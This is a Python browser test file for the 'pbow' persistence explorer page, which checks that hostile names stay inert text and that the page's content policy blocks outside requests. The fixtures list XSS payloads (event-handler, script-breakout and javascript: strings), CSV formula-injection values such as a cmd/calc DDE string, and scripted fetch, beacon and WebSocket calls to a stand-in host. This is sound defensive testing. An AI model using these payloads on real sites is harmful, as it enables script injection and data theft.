"""Names that are programs, in a real browser: none runs, and no request leaves."""

import json
import re

import numpy as np
import pytest
from tests.explorer.driving import (
    choose,
    csv_of,
    download,
    drop_file,
    open_page,
    requests,
    text_of,
)
from tests.explorer.models import diagrams

from pbow import Diagrams, PersistenceBoW
from pbow.explorer import write_explorer

ELSEWHERE = "http://elsewhere.example/"
RUN = "window.ran=1"
NAMES = [
    f"<img src=x onerror={RUN}>",
    f"<img src={ELSEWHERE}a.png>",
    f"<svg onload={RUN}><circle r=9 /></svg>",
    f"</script><script>{RUN}</script>",
    f"</title></style><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>",
    f"<a href='javascript:{RUN}'>link</a>",
    f'<a href="{ELSEWHERE}" target="_self">link</a>',
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}a.css>",
    f"<style>@import '{ELSEWHERE}a.css';</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}><form action={ELSEWHERE}><input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}",
    f"javascript:{RUN}",
    f"${{{RUN}}} {{{{plotly}}}} %{{customdata}} %{{x:{RUN}}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\u2028{RUN}\u2029//",
    f'=HYPERLINK("{ELSEWHERE}","{RUN}")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "__proto__",
    "constructor",
]
FOUND = """
    const foreign = "img, iframe, object, embed, link, base, meta[http-equiv=refresh], "
        + "details, a[href], input[autofocus], [onerror], [onload], [onfocus], "
        + "[onmouseover], [ontoggle], main script, main style";
    return [...document.querySelectorAll(foreign)]
        .filter((one) => !one.closest(".js-plotly-plot .modebar"))
        .map((one) => one.outerHTML.slice(0, 200));
"""


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    """Return a page on which all names are hostile: parts, labels, samples, title."""
    X = diagrams(len(NAMES))
    X = Diagrams.from_parts({NAMES[0]: X["H0"], NAMES[3]: X["H1"], NAMES[7]: X["H1"]})
    model = PersistenceBoW((3, 6), random_state=0).fit(X)
    path = tmp_path_factory.mktemp("hostile") / "page.html"
    labels = np.array(NAMES)[np.arange(len(X)) % 15]
    write_explorer(
        model, X, path, labels=labels, sample_names=NAMES, title=" ".join(NAMES)
    )
    return path


@pytest.fixture
def hostile(browser, page):
    open_page(browser, page)
    return browser


def values_of(browser, element_id):
    script = (
        "return [...document.getElementById(arguments[0]).options].map(o => o.value)"
    )
    return browser.execute_script(script, element_id)


def hover_everything(browser):
    """Let the mouse be over whatever has a box, as far as scripts can."""
    browser.execute_script("""
        for (const one of document.querySelectorAll("main *")) {
            for (const kind of ["mouseover", "mousemove", "mouseenter", "focus"])
                one.dispatchEvent(new MouseEvent(kind, { bubbles: true }));
        }
    """)


def assert_nothing_has_happened(browser):
    assert browser.execute_script("return window.ran") is None
    assert browser.execute_script(FOUND) == []
    asked = [url for url in requests(browser) if not re.match("data:|blob:", url)]
    assert set(asked) <= {browser.current_url.partition("#")[0]}
    assert "elsewhere" not in browser.current_url


def test_every_choice_shows_names_as_text(hostile):
    title = hostile.title.split()
    assert title == " ".join(NAMES).split()
    for element_id in ("part", "label", "other", "word"):
        for value in values_of(hostile, element_id)[::5]:
            choose(hostile, element_id, value)
            hover_everything(hostile)
    assert_nothing_has_happened(hostile)


def test_every_sample_shows_its_name_as_text(hostile):
    found = [re.fullmatch(r"page (\d+)", v) for v in values_of(hostile, "sample")]
    samples = [int(one[1]) for one in found if one]
    assert len(samples) == len(NAMES)
    for number in samples[::4]:
        choose(hostile, "sample", f"page {number}")
        title = text_of(hostile, "bars-title")
        assert NAMES[number].split() == title.removeprefix("Vector of ").split()
        hover_everything(hostile)
    assert_nothing_has_happened(hostile)


def test_a_dropped_file_with_hostile_names_is_text(hostile):
    X = diagrams(4, seed=3)
    parts = {NAMES[0]: X["H0"], NAMES[3]: X["H1"], NAMES[7]: X["H1"]}
    for name in NAMES:
        drop_file(hostile, f"{name}.csv", csv_of(Diagrams.from_parts(parts)))
    drop_file(hostile, "wrong.csv", f"sample,part,birth,death\n0,{NAMES[1]},0,1\n")
    drop_file(hostile, "wrong.csv", "\n".join(NAMES))
    hover_everything(hostile)
    assert_nothing_has_happened(hostile)


def test_a_downloaded_table_has_no_formula(hostile):
    rows = download(hostile, "download-all")
    assert len(rows) == len(NAMES) + 1
    formulas = [cell for row in rows for cell in row if re.match(r"[=+@\t\r]", cell)]
    formulas += [row[0] for row in rows if row[0].startswith("-")]
    assert formulas == []
    assert_nothing_has_happened(hostile)


def test_the_policy_stops_what_would_leave_the_page(hostile):
    """Even if a name became an element or a program, it could not call home."""
    blocked = hostile.execute_async_script(
        """
        const [elsewhere, done] = arguments;
        const blocked = [];
        document.addEventListener("securitypolicyviolation", (event) =>
            blocked.push(event.effectiveDirective));
        for (const html of [
            `<img src=${elsewhere}a.png>`, `<iframe src=${elsewhere}></iframe>`,
            `<link rel=stylesheet href=${elsewhere}a.css>`,
            `<object data=${elsewhere}></object>`, `<video src=${elsewhere}></video>`,
        ]) {
            const one = document.createElement("div");
            one.innerHTML = html;
            document.body.append(one);
        }
        const script = document.createElement("script");
        script.src = elsewhere + "a.js";
        document.body.append(script);
        const form = document.createElement("form");
        form.action = elsewhere;
        document.body.append(form);
        form.submit();
        const base = document.createElement("base");
        base.href = elsewhere;
        document.head.append(base);
        fetch(elsewhere).catch(() => 0);
        try { new WebSocket("ws://elsewhere.example/"); } catch (error) {}
        navigator.sendBeacon(elsewhere, "x");
        setTimeout(() => done(blocked), 1000);
        """,
        ELSEWHERE,
    )
    expected = {"img-src", "frame-src", "style-src-elem", "object-src", "media-src"}
    expected |= {"script-src-elem", "form-action", "base-uri", "connect-src"}
    assert set(blocked) == expected
    assert unblocked(hostile) == []
    hostile.get_log("browser")  # which has each of these


def unblocked(browser):
    """Return the addresses elsewhere that the policy has let through."""
    messages = [
        json.loads(row["message"])["message"] for row in browser.get_log("performance")
    ]
    stopped = {
        message["params"]["requestId"]
        for message in messages
        if message["method"] == "Network.loadingFailed"
        and message["params"].get("blockedReason") == "csp"
    }
    return [
        message["params"]["request"]["url"]
        for message in messages
        if message["method"] == "Network.requestWillBeSent"
        and message["params"]["request"]["url"].startswith(ELSEWHERE)
        and message["params"]["requestId"] not in stopped
    ]
